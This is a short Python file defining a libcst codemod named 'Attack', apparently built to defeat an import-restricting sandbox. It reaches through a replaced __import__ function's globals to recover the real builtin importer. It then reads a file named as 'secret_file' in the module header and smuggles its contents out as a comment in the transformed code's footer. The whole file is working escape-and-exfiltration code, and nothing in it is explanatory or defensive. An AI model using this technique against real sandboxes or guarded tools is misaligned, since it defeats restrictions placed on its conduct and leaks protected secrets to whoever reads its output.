"""Turn the guard against itself: whatever restricts imports is a function, with globals of its own."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    bring = __import__
    if hasattr(bring, "__globals__"):
        builtins = bring.__globals__["__builtins__"]
        bring = builtins["__import__"] if isinstance(builtins, dict) else builtins.__import__
    return bring("linecache").getline(path, 1).strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by the guard."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
